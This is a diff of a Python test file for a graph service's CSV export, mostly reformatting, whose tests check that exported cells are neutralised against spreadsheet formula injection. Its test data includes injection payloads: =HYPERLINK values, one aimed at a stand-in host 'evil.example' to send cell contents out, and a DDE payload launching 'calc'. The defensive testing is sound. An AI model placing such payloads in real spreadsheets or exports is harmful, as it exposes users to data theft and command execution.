@@ -34,7 +34,9 @@ from pathlib import Path
 import pytest
 import yaml
 from click.testing import CliRunner
-from hypothesis import given, settings as hypothesis_settings, strategies as st
+from hypothesis import given
+from hypothesis import settings as hypothesis_settings
+from hypothesis import strategies as st
 from neo4j import GraphDatabase
 
 from graphsvc import audit, csvio, neo4j_local
@@ -42,15 +44,41 @@ from graphsvc.cli import main
 from graphsvc.csvio import FORMULA_STARTS, spreadsheet_safe, spreadsheet_unescape
 
 from .helpers import import_folder, keyring, rewrite, sign_in, snapshot
-
 from .helpers import test_env as _test_env
 
 ROOT = Path(__file__).resolve().parent.parent
 #: What a spreadsheet may run: OWASP's list, line feed and NUL (ASVS 1.2.10), the full-width forms.
 TRIGGERS = frozenset("=+-@\t\r\n\0＝＋－＠")
-NASTY = ["=1+1", "'=x", "'", "''", "+82 10-1234-5678", "-", "＝", "＝HYPERLINK(\"http://x\")", "목련",
-         '=HYPERLINK("http://x","y")', "@SUM(A1)", "＠x", "－3", "＋1", " =1", "\t=1", "\r=1", "\n=1",
-         "\0=1", "a,=b", 'a"b', "a;=b", "line\nbreak", "'quoted'", " 'x", "\u3000=1", "\xa0+1", ""]
+NASTY = [
+    "=1+1",
+    "'=x",
+    "'",
+    "''",
+    "+82 10-1234-5678",
+    "-",
+    "＝",
+    '＝HYPERLINK("http://x")',
+    "목련",
+    '=HYPERLINK("http://x","y")',
+    "@SUM(A1)",
+    "＠x",
+    "－3",
+    "＋1",
+    " =1",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\0=1",
+    "a,=b",
+    'a"b',
+    "a;=b",
+    "line\nbreak",
+    "'quoted'",
+    " 'x",
+    "\u3000=1",
+    "\xa0+1",
+    "",
+]
 
 
 def run(*args: str):
@@ -117,8 +145,12 @@ def test_no_csv_is_written_but_through_csvio():
         if path.name == "csvio.py":
             continue
         for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
-            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
-                    and isinstance(node.value, ast.Name) and node.value.id == "csv":
+            if (
+                isinstance(node, ast.Attribute)
+                and node.attr in ("writer", "DictWriter")
+                and isinstance(node.value, ast.Name)
+                and node.value.id == "csv"
+            ):
                 offenders.append(f"{path.name}:{node.lineno}")
     assert not offenders, offenders
 
@@ -128,7 +160,7 @@ def test_the_audit_csv_neutralises_full_width_formulas(app, world):
     from graphsvc.model import Actor
 
     for agent in ('＝HYPERLINK("http://evil.example/?"&A1)', "＠SUM(1)", "－1+cmd", "\t=1"):
-        audit.record(world, **Actor("somebody", "visitor", "203.0.113.9", agent).event(), action="test.agent")
+        audit.append_now(world, **Actor("somebody", "visitor", "203.0.113.9", agent).event(), action="test.agent")
     client = app.test_client()
     sign_in(client, "admin")
     exported = client.get("/admin/audit/export.csv")
@@ -178,6 +210,7 @@ NOTES = {"v-001": "+cmd|' /C calc'!A0", "v-003": "'처음 방문"}
 
 def _nasty_identity(small: Path) -> None:
     """Identity values that a spreadsheet would run, written as the export writes them."""
+
     def people(rows):
         for r in rows[1:]:
             if r[0] in IDENTITY_VALUES:
@@ -217,7 +250,7 @@ def test_export_is_private_safe_and_round_trips(db, cli_env, small, tmp_path):
         for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")):
             assert not any(_dangerous(cell) for cell in row), (path.name, row)
     text = (out / "people.csv").read_text(encoding="utf-8-sig")
-    assert '"\'=HYPERLINK(' in text and "\"'＝1+1\"" in text and "\"''=x\"" in text
+    assert "\"'=HYPERLINK(" in text and '"\'＝1+1"' in text and "\"''=x\"" in text
 
     db.run_autocommit("wipe_all")
     assert run("import", str(out)).exit_code == 0
@@ -270,15 +303,19 @@ def _free_port() -> int:
         return sock.getsockname()[1]
 
 
-@pytest.mark.parametrize("value", ["-starts-with-a-dash", 'a"b\\c d#e', "'single' quotes", "@not-a-file",
-                                   "--", "ends with backslash\\"])
+@pytest.mark.parametrize(
+    "value", ["-starts-with-a-dash", 'a"b\\c d#e', "'single' quotes", "@not-a-file", "--", "ends with backslash\\"]
+)
 def test_an_argfile_line_is_exactly_one_argument_for_the_real_java_launcher(settings, tmp_path, value):
     local = _local(settings)
     argfile = tmp_path / "probe.args"
-    argfile.write_text(neo4j_local.argfile_line(f"-Dgraphsvc.probe={value}") + "\n"
-                       + neo4j_local.argfile_line("-XshowSettings:properties") + "\n-version\n")
-    shown = subprocess.run([neo4j_local.java_executable(local), f"@{argfile}"],
-                           capture_output=True, text=True).stderr
+    argfile.write_text(
+        neo4j_local.argfile_line(f"-Dgraphsvc.probe={value}")
+        + "\n"
+        + neo4j_local.argfile_line("-XshowSettings:properties")
+        + "\n-version\n"
+    )
+    shown = subprocess.run([neo4j_local.java_executable(local), f"@{argfile}"], capture_output=True, text=True).stderr
     assert f"graphsvc.probe = {value}\n" in shown
     with pytest.raises(neo4j_local.Neo4jError):
         neo4j_local.argfile_line("new\nline")
@@ -332,8 +369,7 @@ def test_install_with_a_dash_password_keeps_it_off_every_command_line(settings, 
     jdk = tmp_path / "jdk"
     (jdk / "bin").mkdir(parents=True)
     argv_log = tmp_path / "java-argv.log"
-    (jdk / "bin" / "java").write_text(
-        f"#!/bin/sh\nprintf '%s\\n' \"$*\" >> '{argv_log}'\nexec '{real_java}' \"$@\"\n")
+    (jdk / "bin" / "java").write_text(f"#!/bin/sh\nprintf '%s\\n' \"$*\" >> '{argv_log}'\nexec '{real_java}' \"$@\"\n")
     os.chmod(jdk / "bin" / "java", 0o755)
     local = replace(base, name=f"dash-life-{os.getpid()}", bolt_port=_free_port(), java_home=str(jdk))
     password = "-" + secrets.token_urlsafe(24)
@@ -407,9 +443,14 @@ def test_serve_refuses_to_start_when_the_journal_cannot_be_written(state_dirs):
     locked, own, parent = state_dirs
     graphsvc = str(Path(sys.executable).with_name("graphsvc"))
     env = _env(GRAPHSVC_STATE_DIR=str(locked), HOME=str(parent))
-    proc = subprocess.Popen([*_unprivileged(), graphsvc, "serve", "--port", str(_free_port()), "--workers", "1"],
-                            env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
-                            start_new_session=True)
+    proc = subprocess.Popen(
+        [*_unprivileged(), graphsvc, "serve", "--port", str(_free_port()), "--workers", "1"],
+        env=env,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        start_new_session=True,
+    )
     try:
         _, stderr = proc.communicate(timeout=60)
     except subprocess.TimeoutExpired:
@@ -421,10 +462,17 @@ def test_serve_refuses_to_start_when_the_journal_cannot_be_written(state_dirs):
     assert "Permission denied" in stderr and "GRAPHSVC_STATE_DIR" in stderr
 
     # the check passes for a folder the user owns (the Docker image's /var/lib/graphsvc)
-    check = ("from graphsvc.config import load_settings; from web import check_audit_journal; "
-             "check_audit_journal(load_settings()); print('writable')")
-    ok = subprocess.run([*_unprivileged(), sys.executable, "-c", check],
-                        env=_env(GRAPHSVC_STATE_DIR=str(own), HOME=str(parent)), cwd=ROOT, capture_output=True, text=True)
+    check = (
+        "from graphsvc.config import load_settings; from web import check_audit_journal; "
+        "check_audit_journal(load_settings()); print('writable')"
+    )
+    ok = subprocess.run(
+        [*_unprivileged(), sys.executable, "-c", check],
+        env=_env(GRAPHSVC_STATE_DIR=str(own), HOME=str(parent)),
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+    )
     assert ok.stdout.strip() == "writable", ok.stderr
     assert stat.S_IMODE((own / "audit").stat().st_mode) == 0o700
     assert stat.S_IMODE((own / "audit" / "journal.jsonl").stat().st_mode) == 0o600
@@ -436,10 +484,23 @@ def test_gunicorn_started_directly_refuses_too(state_dirs, tmp_path):
     gunicorn = str(Path(sys.executable).with_name("gunicorn"))
     log = tmp_path / "gunicorn.log"
     with log.open("wb") as out:
-        proc = subprocess.Popen([*_unprivileged(), gunicorn, "--bind", f"127.0.0.1:{_free_port()}", "--workers", "1",
-                                 "--no-control-socket", "web:create_app()"],
-                                env=_env(GRAPHSVC_STATE_DIR=str(locked), HOME=str(parent)), cwd=ROOT,
-                                stdout=out, stderr=subprocess.STDOUT, start_new_session=True)
+        proc = subprocess.Popen(
+            [
+                *_unprivileged(),
+                gunicorn,
+                "--bind",
+                f"127.0.0.1:{_free_port()}",
+                "--workers",
+                "1",
+                "--no-control-socket",
+                "web:create_app()",
+            ],
+            env=_env(GRAPHSVC_STATE_DIR=str(locked), HOME=str(parent)),
+            cwd=ROOT,
+            stdout=out,
+            stderr=subprocess.STDOUT,
+            start_new_session=True,
+        )
     try:
         code = proc.wait(timeout=60)
     except subprocess.TimeoutExpired:
@@ -480,8 +541,12 @@ class _Server:
         with log.open("wb") as out:
             self.proc = subprocess.Popen(
                 [graphsvc, "serve", "--port", str(self.port), "--workers", "1", "--threads", "1"],
-                env=_env(**env), stdin=subprocess.DEVNULL, stdout=out, stderr=subprocess.STDOUT,
-                start_new_session=True)
+                env=_env(**env),
+                stdin=subprocess.DEVNULL,
+                stdout=out,
+                stderr=subprocess.STDOUT,
+                start_new_session=True,
+            )
         deadline = time.monotonic() + 60
         while not self.answers():
             if self.proc.poll() is not None or time.monotonic() > deadline:
